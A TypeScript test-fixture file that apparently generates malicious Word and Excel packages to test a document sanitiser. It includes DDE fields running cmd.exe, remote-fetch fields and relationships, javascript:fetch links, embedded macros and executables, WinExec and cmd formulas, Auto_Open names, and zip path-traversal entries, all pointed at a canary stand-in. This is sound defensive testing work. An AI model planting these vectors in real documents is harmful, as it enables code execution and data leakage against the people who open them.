import { docx, office, photo, relations, xlsx, zip } from './samples.ts'
import { type Spelling, spellings } from './spellings.ts'
import { canary, type Trick } from './tricks.ts'

const wordMain = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const sheetMain = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const microsoft = 'http://schemas.microsoft.com/office/2006/relationships'
const picture = 'http://schemas.openxmlformats.org/drawingml/2006'

/**
 * Returns a part whose elements have the prefix of the spelling;
 * without prefix, its namespace is the default namespace.
 */
const part = (root: string, namespace: string, { prefix, whole }: Spelling, inside: string) => {
  const declaration = prefix === '' ? `xmlns="${namespace}"` : `xmlns:${prefix.slice(0, -1)}="${namespace}"`
  const bound = prefix === '' ? `xmlns:q="${namespace}"` : ''
  const more = `xmlns:r="${office}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"`
  return whole(`<?xml version="1.0"?><${prefix}${root} ${declaration} ${bound} ${more}>${inside}</${prefix}${root}>`)
}
/** Returns a prefix for attributes, since the default namespace does not apply to attributes. */
const own = ({ prefix }: Spelling) => (prefix === '' ? 'q:' : prefix)

const document = (how: Spelling, inside: string) =>
  part('document', wordMain, how, `<${how.prefix}body>${inside}</${how.prefix}body>`)
const inDocument = (how: Spelling, inside: string, more: Record<string, string | Buffer> = {}) =>
  docx({ 'word/document.xml': document(how, inside), ...more })

const instructions = [
  `DDEAUTO c:\\\\windows\\\\cmd.exe "/k ${canary}"`,
  `DDE cmd "/k ${canary}"`,
  `INCLUDEPICTURE "https://${canary}/x.png" \\d`,
  `INCLUDETEXT "https://${canary}/x.docx"`,
  `IMPORT "https://${canary}/x.png"`,
  `DATABASE \\d "https://${canary}/x.mdb"`,
  `LINK Excel.Sheet "\\\\\\\\${canary}\\\\x.xlsx" "A1" \\a`,
  `HYPERLINK "javascript:${canary}"`,
  `HYPERLINK "file://${canary}/x"`,
  `HYPERLINK "\\\\\\\\${canary}\\\\x"`,
  `MACROBUTTON ${canary} press`,
  `RD "https://${canary}/x.docx"`,
  `EMBED ${canary} \\s`,
  `TOC \\o "https://${canary}"`,
]
/** The ways in which elements can form a field. */
const forms: Readonly<Record<string, (instruction: string, how: Spelling) => string>> = {
  'in one run': (words, how) => field(how, [words]),
  'split over runs': (words, how) => field(how, [words.slice(0, 2), words.slice(2, 9), words.slice(9)]),
  'inside another field': (words, how) => {
    const { prefix: p } = how
    return `<${p}p>${char(how, 'begin')}<${p}r><${p}instrText>IF 1 = 1 </${p}instrText></${p}r>${runs(how, [words])}${char(how, 'separate')}<${p}r><${p}t>shown</${p}t></${p}r>${char(how, 'end')}</${p}p>`
  },
  'in one element': (words, how) =>
    `<${how.prefix}p><${how.prefix}fldSimple ${own(how)}instr=${how.value(words)}><${how.prefix}r><${how.prefix}t>shown</${how.prefix}t></${how.prefix}r></${how.prefix}fldSimple></${how.prefix}p>`,
}
const char = (how: Spelling, kind: string) =>
  `<${how.prefix}r><${how.prefix}fldChar ${own(how)}fldCharType=${how.value(kind)}/></${how.prefix}r>`
const runs = (how: Spelling, pieces: readonly string[]) =>
  `${char(how, 'begin')}${pieces.map((one) => `<${how.prefix}r><${how.prefix}instrText>${how.text(one)}</${how.prefix}instrText></${how.prefix}r>`).join('')}${char(how, 'separate')}<${how.prefix}r><${how.prefix}t>shown</${how.prefix}t></${how.prefix}r>${char(how, 'end')}`
const field = (how: Spelling, pieces: readonly string[]) => `<${how.prefix}p>${runs(how, pieces)}</${how.prefix}p>`

const named = (list: Readonly<Record<string, Spelling>>) => Object.entries(list)
const plainly = spellings.plainly as Spelling

const fields: Trick[] = [
  ...instructions.flatMap((words) =>
    named(spellings).map(([spelling, how]) => ({
      name: `field ${words.slice(0, 40)} split over runs, ${spelling}`,
      extension: 'docx' as const,
      stays: 'shown',
      make: () => inDocument(how, forms['split over runs']?.(words, how) ?? ''),
    })),
  ),
  ...instructions.flatMap((words) =>
    Object.entries(forms).map(([form, make]) => ({
      name: `field ${words.slice(0, 40)} ${form}`,
      extension: 'docx' as const,
      stays: 'shown',
      make: () => inDocument(plainly, make(words, plainly)),
    })),
  ),
]

/** Elements that name a relation, each with the type of the relation. */
const pointing: Readonly<Record<string, [type: string, element: (p: string, id: string) => string]>> = {
  image: [
    `${office}/image`,
    (p, id) =>
      `<${p}p><${p}r><${p}drawing><wp:inline xmlns:wp="${picture}/wordprocessingDrawing"><wp:extent cx="1" cy="1"/><a:graphic xmlns:a="${picture}/main"><a:graphicData uri="${picture}/picture"><pic:pic xmlns:pic="${picture}/picture"><pic:blipFill><a:blip r:link=${id} r:embed=${id}/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></${p}drawing></${p}r></${p}p>`,
  ],
  'old image': [
    `${office}/image`,
    (p, id) =>
      `<${p}p><${p}r><${p}pict><v:shape><v:imagedata r:id=${id} o:href="https://${canary}"/></v:shape></${p}pict></${p}r></${p}p>`,
  ],
  object: [
    `${office}/oleObject`,
    (p, id) =>
      `<${p}p><${p}r><${p}object><o:OLEObject Type="Link" ProgID="Excel.Sheet" r:id=${id}/></${p}object></${p}r></${p}p>`,
  ],
  chunk: [`${office}/aFChunk`, (p, id) => `<${p}altChunk r:id=${id}/>`],
  'sub-document': [`${office}/subDocument`, (p, id) => `<${p}subDoc r:id=${id}/>`],
  control: [`${office}/control`, (p, id) => `<${p}p><${p}r><${p}control r:id=${id}/></${p}r></${p}p>`],
  link: [
    `${office}/hyperlink`,
    (p, id) => `<${p}p><${p}hyperlink r:id=${id}><${p}r><${p}t>shown</${p}t></${p}r></${p}hyperlink></${p}p>`,
  ],
  header: [`${office}/header`, (p, id) => `<${p}sectPr><${p}headerReference r:id=${id}/></${p}sectPr>`],
  template: [`${office}/attachedTemplate`, () => ''],
  frame: [`${office}/frame`, () => ''],
}
const targets: Readonly<Record<string, string>> = {
  'a page': `http://${canary}/hyperlink`,
  'a share': `\\\\${canary}\\share\\hyperlink`,
  'a file': `file://${canary}/hyperlink`,
  'a script': `javascript:fetch('//${canary}/hyperlink')`,
}
const relationSpellings: Readonly<Record<string, (type: string, target: string) => string>> = {
  plainly: (type, target) => `<Relationship Id="r9" Type="${type}" Target="${target}" TargetMode="External"/>`,
  'in numbers': (type, target) =>
    `<Relationship Id="r9" Type="${type}" Target="${target.replaceAll('/', '&#47;')}" TargetMode="&#x45;xternal"/>`,
  'under a prefix': (type, target) =>
    `<z:Relationship xmlns:z="http://schemas.openxmlformats.org/package/2006/relationships" Target='${target.replaceAll("'", '&apos;')}' TargetMode='External' Type='${type}' Id='r9'/>`,
  'behind a comment': (type, target) =>
    `<!-- <x> --><Relationship TargetMode="External"\n\tId="r9" Type="${type}" Target="${target}"></Relationship>`,
  'of a strict sort': (type, target) =>
    `<Relationship Id="r9" Type="${type.replace('http://schemas.openxmlformats.org/officeDocument/2006', 'http://purl.oclc.org/ooxml/officeDocument')}" Target="${target}" TargetMode="External"/>`,
}
const reaching: Trick[] = Object.entries(pointing).flatMap(([what, [type, element]]) =>
  Object.entries(targets).flatMap(([where, target]) =>
    Object.entries(relationSpellings).map(([spelling, write]) => ({
      name: `${what} from ${where}, ${spelling}`,
      extension: 'docx' as const,
      ...(what === 'link' ? { stays: 'shown' } : {}),
      make: () =>
        inDocument(plainly, element('w:', '"r9"'), { 'word/_rels/document.xml.rels': relations(write(type, target)) }),
    })),
  ),
)

/** Parts with macros, files or personal data, each tied to the document, to the package or to nothing. */
const parts: Readonly<Record<string, [name: string, type: string, content: string]>> = {
  macros: ['word/vbaProject.bin', `${microsoft}/vbaProject`, canary],
  'macros under another name': ['word/x.xml', `${microsoft}/vbaProject`, `<a>${canary}</a>`],
  'data of macros': ['word/vbaData.xml', `${microsoft}/wordVbaData`, `<a>${canary}</a>`],
  'a control': ['word/activeX/activeX1.xml', `${office}/control`, `<a>${canary}</a>`],
  'an object': ['word/embeddings/oleObject1.bin', `${office}/oleObject`, canary],
  'a workbook': ['word/embeddings/Sheet1.xlsx', `${office}/package`, canary],
  'a page': ['word/x.html', `${office}/aFChunk`, `<script>${canary}</script>`],
  'custom data': ['customXml/item1.xml', `${office}/customXml`, `<a>${canary}</a>`],
  'settings of a printer': ['word/printerSettings1.bin', `${office}/printerSettings`, canary],
  'names of people': [
    'word/people.xml',
    'http://schemas.microsoft.com/office/2011/relationships/people',
    `<a>${canary}</a>`,
  ],
  'an extension': [
    'word/webextensions/x.xml',
    'http://schemas.microsoft.com/office/2011/relationships/webextension',
    `<a>${canary}</a>`,
  ],
  'keys for macros': ['word/customizations.xml', `${microsoft}/keyMapCustomizations`, `<a>${canary}</a>`],
  'a programme': ['word/media/x.exe', `${office}/image`, `MZ${canary}`],
  'a drawing that runs': ['word/media/x.svg', `${office}/image`, `<svg xmlns="x"><script>${canary}</script></svg>`],
  'a font': ['word/fonts/font1.odttf', `${office}/font`, canary],
  'a glossary': ['word/glossary/document.xml', `${office}/glossaryDocument`, `<a>${canary}</a>`],
}
const carrying: Trick[] = Object.entries(parts).flatMap(([what, [name, type, content]]) =>
  (['document', 'nothing', 'the whole'] as const).map((by) => ({
    name: `${what}, tied to ${by}`,
    extension: 'docx' as const,
    make: () =>
      docx({
        [name]: content,
        ...(by === 'document'
          ? { 'word/_rels/document.xml.rels': relations(`<Relationship Id="r9" Type="${type}" Target="/${name}"/>`) }
          : {}),
        ...(by === 'the whole'
          ? {
              '_rels/.rels': relations(
                `<Relationship Id="r1" Type="${office}/officeDocument" Target="word/document.xml"/>`,
                `<Relationship Id="r9" Type="${type}" Target="${name}"/>`,
              ),
            }
          : {}),
      }),
  })),
)

/** Markup that names the author of a change or, by its `rsid`, identifies an editing session. */
const marks: Readonly<Record<string, (how: Spelling) => string>> = {
  'an insertion': (how) => mark(how, 'ins'),
  'a deletion': (how) => mark(how, 'del'),
  'a change of format': ({ prefix: p, ...how }) =>
    `<${p}p><${p}pPr><${p}pPrChange ${own({ prefix: p, ...how })}author=${how.value(canary)}><${p}pPr/></${p}pPrChange></${p}pPr></${p}p>`,
  'a sitting': ({ prefix: p, ...how }) => `<${p}p ${own({ prefix: p, ...how })}rsidR=${how.value(canary)}/>`,
}
const mark = (how: Spelling, local: string) =>
  `<${how.prefix}p><${how.prefix}${local} ${own(how)}id="1" ${own(how)}author=${how.value(canary)} ${own(how)}date="2026-01-01T00:00:00Z"><${how.prefix}r><${how.prefix}t>shown</${how.prefix}t></${how.prefix}r></${how.prefix}${local}></${how.prefix}p>`
const writing: Trick[] = Object.entries(marks).flatMap(([what, make]) =>
  named(spellings).map(([spelling, how]) => ({
    name: `author of ${what}, ${spelling}`,
    extension: 'docx' as const,
    make: () => inDocument(how, make(how)),
  })),
)

/** A photograph with place and author, under file names with other extensions. */
const photographs: Trick[] = [
  'image1.jpeg',
  'image1.png',
  'image1.bin',
  'image1.tmp',
  'image1',
  'image1.emf',
  'image1.xml',
].map((name) => ({
  name: `photograph named ${name}`,
  extension: 'docx' as const,
  make: async () => {
    const [type = '', element] = pointing.image ?? []
    return inDocument(plainly, element?.('w:', '"r9"') ?? '', {
      [`word/media/${name}`]: await photo(),
      'word/_rels/document.xml.rels': relations(`<Relationship Id="r9" Type="${type}" Target="media/${name}"/>`),
    })
  },
}))

const formulas = [
  `WEBSERVICE("https://${canary}/")`,
  `IMAGE("https://${canary}/x.png")`,
  `HYPERLINK("https://${canary}/","x")`,
  `cmd|'/C ${canary}'!A0`,
  `[1]Sheet1!${canary}`,
  `'https://${canary}/[x.xlsx]Sheet1'!A1`,
  `CALL("kernel32","WinExec","JC","${canary}")`,
  `RTD("${canary}",,"x")`,
  `FILTERXML("${canary}","//x")`,
]
const sheetPart = (how: Spelling, inside: string) =>
  part('worksheet', sheetMain, how, inside.replaceAll(/<(\/?)(?=\w)/g, `<$1${how.prefix}`))
/** The places of a worksheet in which a formula can be, each with a visible text. */
const places: Readonly<Record<string, (words: string, how: Spelling) => string>> = {
  'a cell': (words, how) =>
    `<sheetData><row r="1"><c r="A1" t="str"><f>${how.text(words)}</f><v>shown</v></c></row></sheetData>`,
  'a row of cells': (words, how) =>
    `<sheetData><row r="1"><c r="A1" t="str"><f t="array" ref="A1:A1">${how.text(words)}</f><v>shown</v></c></row></sheetData>`,
  'a condition': (words, how) =>
    `<sheetData><row r="1"><c r="A1" t="str"><v>shown</v></c></row></sheetData><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>${how.text(words)}</formula></cfRule></conditionalFormatting>`,
  'a check of input': (words, how) =>
    `<sheetData><row r="1"><c r="A1" t="str"><v>shown</v></c></row></sheetData><dataValidations><dataValidation type="custom" sqref="A1"><formula1>${how.text(words)}</formula1></dataValidation></dataValidations>`,
}
const computing: Trick[] = [
  ...formulas.flatMap((words) =>
    named(spellings).map(([spelling, how]) => ({ words, where: 'a cell', spelling, how })),
  ),
  ...formulas.flatMap((words) =>
    Object.keys(places)
      .slice(1)
      .map((where) => ({ words, where, spelling: 'plainly', how: plainly })),
  ),
].map(({ words, where, spelling, how }) => ({
  name: `formula ${words.slice(0, 40)} in ${where}, ${spelling}`,
  extension: 'xlsx' as const,
  stays: 'shown',
  make: () => xlsx({ 'xl/worksheets/sheet1.xml': sheetPart(how, places[where]?.(words, how) ?? '') }),
}))

const names: Trick[] = formulas.map((words) => ({
  name: `formula ${words.slice(0, 40)} under a name`,
  extension: 'xlsx',
  stays: 'Rent',
  make: () =>
    xlsx({
      'xl/workbook.xml': `<workbook xmlns="${sheetMain}" xmlns:r="${office}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="_xlnm.Print_Area">${spellings.plainly?.text(words)}</definedName><definedName name="Auto_Open">${spellings.plainly?.text(words)}</definedName></definedNames></workbook>`,
    }),
}))

const besides: Trick[] = [
  ['externalLink', `${office}/externalLink`],
  ['connections', `${office}/connections`],
  ['queryTable', `${office}/queryTable`],
  ['pivotCacheDefinition', `${office}/pivotCacheDefinition`],
  ['xlMacrosheet', `${microsoft}/xlMacrosheet`],
  ['vbaProject', `${microsoft}/vbaProject`],
  ['calcChain', `${office}/calcChain`],
].map(([name, type]) => ({
  name: `${name} of a workbook`,
  extension: 'xlsx' as const,
  stays: 'Rent',
  make: () =>
    xlsx({
      [`xl/${name}1.xml`]: `<a>${canary}</a>`,
      'xl/_rels/workbook.xml.rels': relations(
        `<Relationship Id="rId1" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/>`,
        `<Relationship Id="rId9" Type="${type}" Target="${name}1.xml"/>`,
      ),
    }),
}))

/** Archives with hidden content outside their listed files. */
const archives: Trick[] = [
  { name: 'words before it', make: async () => Buffer.concat([Buffer.from(canary), await docx()]) },
  { name: 'words behind it', make: async () => Buffer.concat([await docx(), Buffer.from(canary)]) },
  { name: 'an archive behind it', make: async () => Buffer.concat([await docx(), await zip({ x: canary })]) },
  { name: 'an archive inside', make: async () => docx({ 'word/x.zip': await zip({ x: canary }) }) },
  {
    name: 'a folder above',
    make: async () => docx({ 'word/aaa': canary }).then((file) => swapped(file, 'word/aaa', '../../aa')),
  },
  {
    name: 'a name from the root',
    make: async () => docx({ 'word/aaa': canary }).then((file) => swapped(file, 'word/aaa', '/etc/aaa')),
  },
  {
    name: 'a name of Windows',
    make: async () => docx({ 'word/aaa': canary }).then((file) => swapped(file, 'word/aaa', 'C:\\x\\aaa')),
  },
  {
    name: 'a name twice',
    make: async () =>
      docx({ 'word/documenu.xml': canary }).then((file) => swapped(file, 'word/documenu.xml', 'word/document.xml')),
  },
  { name: 'a name in capitals too', make: async () => docx({ 'WORD/DOCUMENT.XML': `<a>${canary}</a>` }) },
  {
    name: 'another name in the file than in the list',
    make: async () => {
      const file = await docx({ 'word/aaaaaaa.xml': `<a>${canary}</a>` })
      const at = file.indexOf('word/aaaaaaa.xml')
      file.write('word/styles2.xml', at, 'latin1')
      return file
    },
  },
].map((one) => ({ extension: 'docx' as const, ...one }))

const swapped = (archive: Buffer, from: string, to: string) => {
  const told = Buffer.from(archive)
  for (let at = told.indexOf(from); at >= 0; at = told.indexOf(from, at + 1)) told.write(to, at, 'latin1')
  return told
}

export const officeTricks: readonly Trick[] = [
  ...[...fields, ...reaching, ...carrying, ...writing, ...photographs, ...computing, ...names, ...besides, ...archives],
]
